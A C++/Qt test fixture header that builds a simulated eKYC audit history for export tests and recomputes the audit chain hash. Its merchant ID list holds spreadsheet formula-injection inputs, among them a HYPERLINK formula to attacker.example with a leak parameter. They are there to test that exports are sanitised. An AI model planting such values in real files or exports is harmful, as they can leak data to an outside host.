#pragma once

#include "export/ExportManifest.h"
#include "export/Exporter.h"
#include "history/AuditStore.h"

#include "FakeClock.h"
#include "StoreFixture.h"
#include "TeamHistory.h"

#include <QCryptographicHash>
#include <QFile>
#include <QJsonObject>
#include <QList>
#include <QStringList>

#include <map>
#include <memory>

// A team history for the export tests, on one backend: the TeamHistory accounts, and cases of "reviewer" and
// "supervisor" over three days (FakeClock from 2026-11-25 09:00 UTC, one case an hour), answered 200, 202 or 223 or
// left pending, with MerchantBizIds that try formula injection.
struct ExportWorld
{
    StoreFixture fx;
    FakeClock clock;
    std::unique_ptr<AuditStore> store;
    std::map<QString, Actor> actors;

    static QStringList merchantBizIds()
    {
        return { QStringLiteral("=HYPERLINK(\"http://attacker.example/?leak=1\",\"open me\")"),
            QStringLiteral("+1"),
            QStringLiteral("-1"),
            QStringLiteral("@x"),
            QStringLiteral("\tleading tab"),
            QStringLiteral("\rleading cr"),
            QStringLiteral("'quoted"),
            QStringLiteral("plain, with comma"),
            QStringLiteral("with \"quotes\""),
            QStringLiteral("team0009") };
    }

    // nullptr when the backend is not available here (the caller skips) or the history could not be built.
    static std::unique_ptr<ExportWorld> build(const QString& backend, QString* skip)
    {
        auto w = std::make_unique<ExportWorld>();
        if (!w->fx.prepare(backend, skip))
            return nullptr;
        w->store = w->fx.open(&w->clock);
        std::optional<TeamHistory> team = w->store ? TeamHistory::build(*w->store, 0) : std::nullopt;
        if (!team) {
            *skip = QStringLiteral("the team history could not be built");
            return nullptr;
        }
        w->actors = team->actors;
        const QStringList ids = merchantBizIds();
        const QStringList subCodes { QStringLiteral("200"), QStringLiteral("202"), QStringLiteral("223"), QString() };
        for (int i = 0; i < ids.size(); ++i) {
            w->clock.advance(8 * 3600 * 1000); // three cases a day
            const Actor& who = w->actors.at(i % 3 == 0 ? QStringLiteral("supervisor") : QStringLiteral("reviewer"));
            CaseRecord record = TeamHistory::record(i);
            record.merchantBizId = ids.at(i);
            const Result<QString> id = w->store->createCase(who, record);
            const QString subCode = subCodes.at(i % subCodes.size());
            if (!id
                || (!subCode.isEmpty()
                    && !w->store->completeCase(who,
                        *id,
                        StoreFixture::completion(
                            QLatin1String(CaseState::completed), subCode == QLatin1String("200"), subCode)))) {
                *skip = QStringLiteral("the cases could not be written");
                return nullptr;
            }
        }
        return w;
    }

    const Actor& actor(const char* name) const { return actors.at(QLatin1String(name)); }

    int countKind(const char* kind) const
    {
        int n = 0;
        (void)store->forEachEvent([&](const AuditEvent& e) {
            n += e.kind == QLatin1String(kind) ? 1 : 0;
            return true;
        });
        return n;
    }

    QList<QJsonObject> payloadsOfKind(const char* kind) const
    {
        QList<QJsonObject> payloads;
        (void)store->forEachEvent([&](const AuditEvent& e) {
            if (e.kind == QLatin1String(kind))
                payloads.append(e.payloadObject());
            return true;
        });
        return payloads;
    }

    static QByteArray read(const QString& path)
    {
        QFile file(path);
        return file.open(QIODevice::ReadOnly) ? file.readAll() : QByteArray();
    }

    static bool write(const QString& path, const QByteArray& bytes)
    {
        QFile file(path);
        return file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(bytes) == bytes.size();
    }

    // The canonical chain hash as the README defines it, computed here without the product's CanonicalEvent.
    static QByteArray chainHash(const QByteArray& prevHex,
        qint64 seq,
        const QString& ts,
        const QString& actor,
        const QString& workstation,
        const QString& caseId,
        const QString& kind,
        const QByteArray& payload,
        const QByteArray& piiDigest)
    {
        auto field = [](const QByteArray& x) {
            return QByteArray::number(x.size(), 16).rightJustified(8, '0') + ':' + x + '\n';
        };
        QByteArray canonical = "ekyc-desk/audit-event/v1\n";
        canonical += field(QByteArray::number(seq)) + field(ts.toUtf8()) + field(actor.toUtf8())
            + field(workstation.toUtf8()) + field(caseId.toUtf8()) + field(kind.toUtf8()) + field(payload)
            + field(piiDigest);
        return QCryptographicHash::hash(QByteArray::fromHex(prevHex) + canonical, QCryptographicHash::Sha256).toHex();
    }
};

// One ExportWorld per backend, built at first use and shared by the test functions of one test program (the data
// rows name the backend).
class ExportWorlds
{
public:
    // nullptr (with a warning saying why) when the backend is not available here.
    ExportWorld* get(const QString& backend)
    {
        std::unique_ptr<ExportWorld>& w = m_worlds[backend];
        if (!w) {
            QString skip;
            w = ExportWorld::build(backend, &skip);
            if (!w)
                qWarning("%s", qPrintable(skip));
        }
        return w.get();
    }

private:
    std::map<QString, std::unique_ptr<ExportWorld>> m_worlds;
};
